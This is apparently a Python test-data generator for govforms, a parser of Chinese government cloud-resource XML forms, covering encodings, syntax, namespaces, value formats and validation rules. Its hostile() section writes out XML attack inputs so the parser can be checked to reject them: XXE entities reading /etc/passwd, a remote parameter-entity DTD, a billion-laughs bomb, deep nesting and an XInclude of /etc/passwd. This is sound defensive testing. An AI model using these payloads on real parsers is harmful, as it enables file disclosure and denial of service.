"""Structured XML inputs from other systems (tests/data/xml-variants/): the
spec's `<form type="…"><fields>…</fields></form>` written the ways other
programs write XML, records written by govforms and edited, values as other
systems type them, the rules through XML, size, and hostile documents.

Each is NAME.xml with NAME.expected.json: form, fields, diagnostics
(severity, code, field; `where` "line N" where the line is known), the exit
code govforms must give, and for twins the DOCX variant whose fields must be
identical."""
import copy

from .catalog_rules import SUMMARY_200K, many_hosts, row
from .data import ACT_A, CR_A, CS_A, ES_A, EXIT_A, HOST_A, REQ_A, REQ_B
from .variant import Variant, prune, set_path
from .xmlgen import Style, write_xml

UNREADABLE = [('error', 'unreadable', None)]


class XV:
    def __init__(self, name, form, values, about, style=None, changes=None, diagnostics=(), exit=None,
                 twin=None, raw=None, lines=(), allow=(), expect_form=True, fields_override=None, post=None):
        self.name = name
        self.form = form
        self.values = copy.deepcopy(values) if values is not None else None
        for path, val in (changes or {}).items():
            set_path(self.values, path, copy.deepcopy(val))
        if self.values is not None:
            prune(self.values)
        self.about = about
        self.style = style or Style()
        self.diagnostics = list(diagnostics)
        self.exit = exit if exit is not None else (1 if any(d[0] == 'error' for d in diagnostics) else 0)
        self.twin = twin
        self.raw = raw                  # bytes written as they are (hostile documents)
        self.lines = set(lines)         # diagnostics whose field's line is checked
        self.allow = list(allow)
        self.expect_form = expect_form  # False: the document is no form (unknown-form, unreadable)
        self.fields_override = fields_override
        self.post = post                # bytes -> bytes after writing (line ends, root edits)

    def document(self):
        if self.raw is not None:
            return self.raw, {}
        data, where = write_xml(self.form, self.values, self.style)
        return (self.post(data) if self.post else data), where

    def expected(self, where):
        if not self.expect_form:
            fields, form = {}, None
        else:
            fields = Variant(self.name, self.form, self.values, '').expected()['fields']
            form = self.form
        if self.fields_override is not None:
            fields = self.fields_override
        diags = []
        for d in self.diagnostics:
            e = {'severity': d[0], 'code': d[1], 'field': d[2]}
            if d[2] in self.lines and d[2] in where:
                e['where'] = 'line %d' % where[d[2]]
            diags.append(e)
        out = {'form': form, 'fields': fields, 'diagnostics': diags, 'exit': self.exit}
        if self.twin:
            out['twin'] = self.twin
        if self.allow:
            out['allow'] = self.allow
        return out


def path_of(field):
    """hosts[0].cpu -> hosts.0.cpu (the writer's paths)."""
    return field.replace('[', '.').replace(']', '')


def twins():
    return [
        XV('request-twin', 'request', REQ_A, 'XML twin of request-plain-word, written independently', twin='request-plain-word'),
        XV('hosting-twin', 'hosting-request', HOST_A, 'XML twin of hosting-plain-word', twin='hosting-plain-word'),
        XV('change-request-twin', 'change-request', CR_A, 'XML twin of change-request-delete',
           twin='change-request-delete'),
        XV('exit-request-twin', 'exit-request', EXIT_A, 'XML twin of exit-request-plain', twin='exit-request-plain'),
        XV('activation-twin', 'activation-sheet', ACT_A, 'XML twin of activation-plain (合计 left to be computed)',
           twin='activation-plain'),
        XV('change-sheet-twin', 'change-sheet', CS_A, 'XML twin of change-sheet-delete', twin='change-sheet-delete'),
        XV('exit-sheet-twin', 'exit-sheet', ES_A, 'XML twin of exit-sheet-plain', twin='exit-sheet-plain'),
    ]


def encodings():
    return [
        XV('request-utf8-bom', 'request', REQ_B, 'UTF-8 with a byte order mark (Windows Notepad, .NET)',
           Style(bom=True)),
        XV('request-utf16le-bom', 'request', REQ_B, 'UTF-16LE with BOM, encoding="UTF-16" (.NET XmlWriter default, '
           'Excel XML export)', Style(encoding='utf-16-le', bom=True, decl='UTF-16')),
        XV('exit-request-utf16be-bom', 'exit-request', EXIT_A, 'UTF-16BE with BOM, encoding="UTF-16"',
           Style(encoding='utf-16-be', bom=True, decl='UTF-16')),
        XV('exit-request-gb18030', 'exit-request', EXIT_A, 'encoding="GB18030", bytes in GB18030 (Chinese systems)',
           Style(encoding='gb18030', decl='GB18030')),
        XV('change-request-gbk', 'change-request', CR_A, 'encoding="GBK", bytes in GBK', Style(encoding='gbk',
                                                                                            decl='GBK')),
        XV('exit-sheet-no-decl', 'exit-sheet', ES_A, 'no XML declaration at all (UTF-8 by default)', Style(decl=None)),
        XV('change-sheet-one-line', 'change-sheet', CS_A, 'the whole document on one line, no declaration',
           Style(indent='', decl=None)),
    ]


def syntax():
    ent = {'unit.address': '淮北市相山区古城路88号A&B座<3楼>', 'other': '需"双活"部署&\'同城\'容灾，带宽>100M'}
    return [
        XV('hosting-comments-pi', 'hosting-request', HOST_A, 'comments and processing instructions before the root, '
           'between elements and inside values (淮北<!-- -->市)', Style(comments=True)),
        XV('change-request-cdata', 'change-request', CR_A, 'every value in a CDATA section, texts holding < and &',
           Style(text='cdata'), changes={'reason': '数据库负载>80%&连接数<500时告警，需扩容。'}),
        XV('request-hexref', 'request', REQ_A, 'every non-ASCII character as a hexadecimal reference (&#x6DEE;)',
           Style(text='hexref')),
        XV('exit-request-decref', 'exit-request', EXIT_A, 'every non-ASCII character as a decimal reference (&#28142;)',
           Style(text='decref')),
        XV('request-entities', 'request', REQ_A, 'the five predefined entities in texts (&amp; &lt; &gt; &quot; &apos;)',
           changes=ent),
        XV('request-padded', 'request', REQ_B, 'newlines, tabs and spaces around every value (numbers, dates, options)',
           Style(text='padded')),
        XV('request-shuffled', 'request', REQ_A, 'every element list in a random order, host row children too',
           Style(order='shuffle', seed=3)),
        XV('activation-reversed', 'activation-sheet', ACT_A, 'every element list in reverse order', Style(order='reverse')),
        XV('request-empty-optional', 'request', REQ_B, 'empty elements for missing optional values: <project_code/>, '
           '<internet/>, <mobile>   </mobile>, <l4/>',
           Style(empty={'system.project_code': '', 'ip.internet': '', 'owner.mobile': '   ',
                        'load_balancers.l4': ''}), changes={'owner.mobile': None}),
        XV('request-empty-required', 'request', REQ_B, '<email/> for the required 电子邮箱 of the owner',
           Style(empty={'owner.email': ''}), changes={'owner.email': None},
           diagnostics=[('error', 'required', 'owner.email')]),
        XV('request-empty-choice', 'request', REQ_B, '<provider/> for the required 云服务商 (nothing chosen)',
           Style(empty={'cloud.provider': ''}), changes={'cloud.provider': None},
           diagnostics=[('error', 'required', 'cloud.provider')]),
    ]


def records():
    fake = [{'severity': 'error', 'code': 'required', 'field': 'owner.mobile', 'label': '移动电话',
             'message': '必填项“移动电话”未填写', 'where': 'table 1, row 2, cell 13'},
            {'severity': 'warning', 'code': 'rule', 'field': 'hosts_total', 'label': '合计',
             'message': '合计行与各行×数量之和不符', 'where': 'table 1, row 21, cell 1'}]
    act = copy.deepcopy(ACT_A)
    act['hosts_total'] = Variant('x', 'activation-sheet', ACT_A, '').expected()['fields']['hosts_total']
    return [
        XV('hosting-record', 'hosting-request', HOST_A, 'a <record> as govforms writes it, given back as input',
           Style(root='record', title='淮北市政务云资源需求申请表（托管）')),
        XV('activation-record-edited', 'activation-sheet', act, 'a <record> by govforms (with hosts_total) whose '
           'diagnostics were edited by hand: an invented error and warning, valid=false; they are ignored',
           Style(root='record', title='淮北市政务云资源开通确认单', record_diags=fake)),
    ]


def foreign():
    unknown = [('system', 'vendor', '华为'), ('', 'remark', '加急办理')]
    return [
        XV('request-namespace', 'request', REQ_A, 'a default namespace on the root (<form xmlns="urn:…">): another root '
           'element by XML Namespaces, so no form', Style(ns='urn:huaibei:govcloud:form'),
           diagnostics=[('error', 'unknown-form', None)], expect_form=False),
        XV('request-xsi', 'request', REQ_A, 'xmlns:xsi and xsi:noNamespaceSchemaLocation pointing at a remote schema '
           '(never fetched)', Style(root_attrs={'xmlns:xsi': 'http://www.w3.org/2001/XMLSchema-instance',
                                                 'xsi:noNamespaceSchemaLocation': 'http://203.0.113.9/form.xsd'})),
        XV('request-unknown-attrs', 'request', REQ_A, 'attributes the schema does not know on the root, on a group and '
           'on a value (version="2.0", id="1", lang="zh"): schema violations',
           Style(root_attrs={'version': '2.0'}, attrs={'unit': {'id': '1'}, 'unit.name': {'lang': 'zh'}}),
           diagnostics=[('error', 'format', None), ('error', 'format', 'unit'), ('error', 'format', 'unit.name')],
           lines={'unit', 'unit.name'}),
        XV('request-unknown-elements', 'request', REQ_A, 'elements the schema does not know: <system><vendor> and '
           '<fields><remark>', Style(unknown=unknown),
           diagnostics=[('error', 'format', 'system.vendor'), ('error', 'format', 'remark')],
           lines={'system.vendor', 'remark'}),
    ]


def roots():
    no_form = [('error', 'unknown-form', None)]
    return [
        XV('exit-sheet-crlf', 'exit-sheet', ES_A, 'Windows line ends (CR LF) throughout',
           post=lambda b: b.replace(b'\n', b'\r\n')),
        XV('request-duplicate-element', 'request', REQ_A, 'an element written twice (<owner><name> again): a schema '
           'violation at the second; the first is kept', Style(unknown=[('owner', 'name', '王五')]),
           diagnostics=[('error', 'format', 'owner.name')], lines={'owner.name'}),
        XV('exit-request-no-type', 'exit-request', EXIT_A, '<form> without its type attribute: no form',
           post=lambda b: b.replace(b' type="exit-request"', b''), diagnostics=no_form, expect_form=False),
        XV('exit-request-other-root', 'exit-request', EXIT_A, 'another root element (<application type=…>): no form',
           post=lambda b: b.replace(b'<form ', b'<application ').replace(b'</form>', b'</application>'),
           diagnostics=no_form, expect_form=False),
        XV('exit-request-unknown-type', 'exit-request', EXIT_A, '<form type="leave-request">: no form',
           post=lambda b: b.replace(b'"exit-request"', b'"leave-request"'), diagnostics=no_form, expect_form=False),
    ]


def values():
    hosts60 = []
    for i in range(60):
        h = copy.deepcopy(REQ_A['hosts'][i % 2])
        h['name'] = '%s%02d' % (h['name'], i + 1)
        hosts60.append(h)
    typed_units = {'hosts.0.cpu': '8核', 'hosts.1.cpu': '16C', 'hosts.0.memory_gb': '16G', 'hosts.1.memory_gb': '64GB',
                   'hosts.1.data_disk_gb': '2T', 'hosts.0.count': '2台', 'system.investment': '280万元',
                   'applied_on': '2026年3月5日', 'owner.mobile': '+86 139 0561 1234', 'system.audience_size': '800 个'}
    return [
        XV('request-multi-string', 'request', REQ_B, 'multi values as one string: 政务外网、其他网络; '
           'SATA硬盘（默认）、对象存储', Style(multi='string:、')),
        XV('hosting-multi-comma', 'hosting-request', HOST_A, 'multi value as one string with an ASCII comma: '
           '政务外网,互联网', Style(multi='string:,')),
        XV('request-units', 'request', REQ_A, 'values with units as people type them: 8核, 16C, 16G, 64GB, 2T, 2台, '
           '280万元, 2026年3月5日, +86 mobile, 800 个', Style(typed=typed_units)),
        XV('request-disk-combined', 'request', REQ_A, '<system_disk_gb>100G SSD</system_disk_gb> with no '
           '<system_disk_type>: the type is no part of a gb value (format)',
           Style(typed={'hosts.0.system_disk_gb': '100G SSD'}),
           changes={'hosts.0.system_disk_gb': None, 'hosts.0.system_disk_type': None},
           diagnostics=[('error', 'format', 'hosts[0].system_disk_gb')], lines={'hosts[0].system_disk_gb'}),
        XV('request-60-hosts', 'request', REQ_A, '60 host rows', changes={'hosts': hosts60}),
        XV('request-bad-values', 'request', REQ_A, 'values that are none of their type: e-mail abc, 2026-02-30, CPU 8.5',
           Style(typed={'owner.email': 'abc', 'applied_on': '2026-02-30', 'hosts.0.cpu': '8.5'}),
           changes={'owner.email': None, 'applied_on': None, 'hosts.0.cpu': None},
           diagnostics=[('error', 'format', 'owner.email'), ('error', 'format', 'applied_on'),
                        ('error', 'format', 'hosts[0].cpu')],
           lines={'owner.email', 'applied_on', 'hosts[0].cpu'}),
    ]


def rules():
    level = {'system.protection_level': '四级'}
    return [
        XV('request-choice-two', 'request', REQ_A, 'a single choice written with two options: 电信、移动',
           Style(typed={'cloud.provider': '电信、移动'}), changes={'cloud.provider': None},
           diagnostics=[('error', 'choice', 'cloud.provider')], lines={'cloud.provider'}),
        XV('request-choice-unknown', 'request', REQ_A, 'an option not on the form: 华为云 (kept as written)',
           changes={'cloud.provider': '华为云'}, diagnostics=[('error', 'choice', 'cloud.provider')],
           lines={'cloud.provider'}),
        XV('request-choice-zero', 'request', REQ_A, '“0” (not needed) in the required 云服务商 and 承载网络',
           changes={'cloud.provider': '0', 'system.networks': '0'}),
        XV('request-other-empty', 'request', REQ_A, '系统类型 其他 without <category_other>',
           changes={'system.category': '其他'}, diagnostics=[('error', 'required', 'system.category_other')]),
        XV('request-term-no-months', 'request', REQ_A, '临时运行 without <term_months>',
           changes={'cloud.term': '临时运行'}, diagnostics=[('error', 'required', 'cloud.term_months')]),
        XV('hosting-term-7', 'hosting-request', HOST_A, '临时运行 7 months',
           changes={'cloud.term': '临时运行', 'cloud.term_months': 7},
           diagnostics=[('error', 'range', 'cloud.term_months')], lines={'cloud.term_months'}),
        XV('activation-term-0', 'activation-sheet', ACT_A, '临时运行 0 months',
           changes={'cloud.term': '临时运行', 'cloud.term_months': 0},
           diagnostics=[('error', 'range', 'cloud.term_months')]),
        XV('request-level4', 'request', REQ_A, '等级保护级别 四级', changes=level,
           diagnostics=[('error', 'rule', 'system.protection_level')], lines={'system.protection_level'}),
        XV('activation-secret', 'activation-sheet', ACT_A, '等级保护级别 涉密',
           changes={'system.protection_level': '涉密'}, diagnostics=[('error', 'rule', 'system.protection_level')]),
        XV('request-level3-no-cert', 'request', REQ_A, '三级 without a filing certificate number',
           changes={'system.protection_cert': None}, diagnostics=[('warning', 'required', 'system.protection_cert')]),
        XV('change-request-major', 'change-request', CR_A, 'memory 64 → 97 GB over two rows (+51.6 %)',
           changes={'changes': [row('10.55.62.21', 8, 32, 8, 48, 100, 100, 500, 500),
                                row('10.55.62.22', 8, 32, 8, 49, 100, 100, 500, 500)]},
           diagnostics=[('warning', 'rule', 'changes')]),
        XV('change-sheet-exact-50', 'change-sheet', CS_A, 'CPU 16 → 24 exactly +50 % (no warning)',
           changes={'changes': [row('172.18.10.15', 16, 32, 24, 32, 200, 200, 2048, 2048)]}),
        XV('change-request-no-changes', 'change-request', CR_A, 'neither <changes> nor <other_changes>',
           changes={'changes': None}, diagnostics=[('error', 'required', 'changes')]),
        XV('activation-total-wrong', 'activation-sheet', dict(ACT_A, hosts_total={
            'cpu': 24, 'memory_gb': 40, 'system_disk_gb': 300, 'data_disk_gb': 2248, 'count': 3}),
           'a typed <hosts_total> whose cpu (24) differs from the rows × counts (20)',
           diagnostics=[('warning', 'rule', 'hosts_total')],
           fields_override=Variant('x', 'activation-sheet', ACT_A, '').expected()['fields']),
    ]


def size():
    return [
        XV('request-hosts-2000', 'request', REQ_A, '2 000 host rows, one line', Style(indent=''),
           changes={'hosts': many_hosts(2000)}),
        XV('request-summary-200k', 'request', REQ_A, '系统简介 of 213 KB', changes={'system.summary': SUMMARY_200K}),
    ]


FORM_HEAD = b'<?xml version="1.0" encoding="UTF-8"?>\n'


def small(reason_xml, head=FORM_HEAD, prolog=b''):
    return (head + prolog + '<form type="exit-request"><fields><unit><name>淮北市民政局</name></unit>'
            '<reason>'.encode() + reason_xml + b'</reason></fields></form>\n')


def hostile():
    laughs = (b'<!DOCTYPE form [\n <!ENTITY a "lol">\n' +
              b''.join(b' <!ENTITY %s "%s">\n' % (bytes([ord('b') + i]), (b'&' + bytes([ord('a') + i]) + b';') * 10)
                       for i in range(9)) + b']>\n')
    deep = b'<x>' * 10000 + b'deep' + b'</x>' * 10000
    utf16_dtd = ('<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE form [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
                 '<form type="exit-request"><fields><reason>&x;</reason></fields></form>\n').encode('utf-16')
    H = lambda name, about, raw: XV(name, 'exit-request', None, about, raw=raw, diagnostics=UNREADABLE, exit=2,
                                    expect_form=False)
    return [
        H('hostile-dtd', 'a document type declaration without entities', small(b'x', prolog=b'<!DOCTYPE form>\n')),
        H('hostile-dtd-after-comment', 'a DOCTYPE after a comment and a processing instruction',
          small(b'x', prolog=b'<!-- c --><?pi x?>\n<!DOCTYPE form [<!ENTITY e "v">]>\n')),
        H('hostile-xxe', 'an external entity to file:///etc/passwd used in a value',
          small(b'&x;', prolog=b'<!DOCTYPE form [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n')),
        H('hostile-parameter-entity', 'a parameter entity loading a remote DTD',
          small(b'x', prolog=b'<!DOCTYPE form [<!ENTITY % p SYSTEM "http://203.0.113.9/x.dtd"> %p;]>\n')),
        H('hostile-billion-laughs', 'ten levels of entities, 3*10^9 bytes expanded', small(b'&j;', prolog=laughs)),
        H('hostile-deep-10000', '10 000 nested elements inside a value', small(deep)),
        H('hostile-invalid-utf8', 'bytes that are no UTF-8 (\\xff\\xfe, a lone continuation byte) in a value',
          small('婚姻登记'.encode() + b'\xff\xfe\x80')),
        H('hostile-nul', 'a NUL byte in a value', small('婚姻'.encode() + b'\x00' + '登记'.encode())),
        H('hostile-utf16-xxe', 'UTF-16 with BOM holding a DTD and an external entity', utf16_dtd),
        XV('hostile-xinclude', 'exit-request', EXIT_A, 'an XInclude of /etc/passwd as the value of 退出原因: never '
           'expanded; an element the schema does not know', changes={'reason': None},
           style=Style(raw={'reason': '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                      'href="file:///etc/passwd" parse="text"/>'}),
           diagnostics=[('error', 'format', 'reason')], lines={'reason'}),
    ]


def variants():
    return (twins() + encodings() + syntax() + records() + foreign() + roots() + values() + rules() + size()
            + hostile())
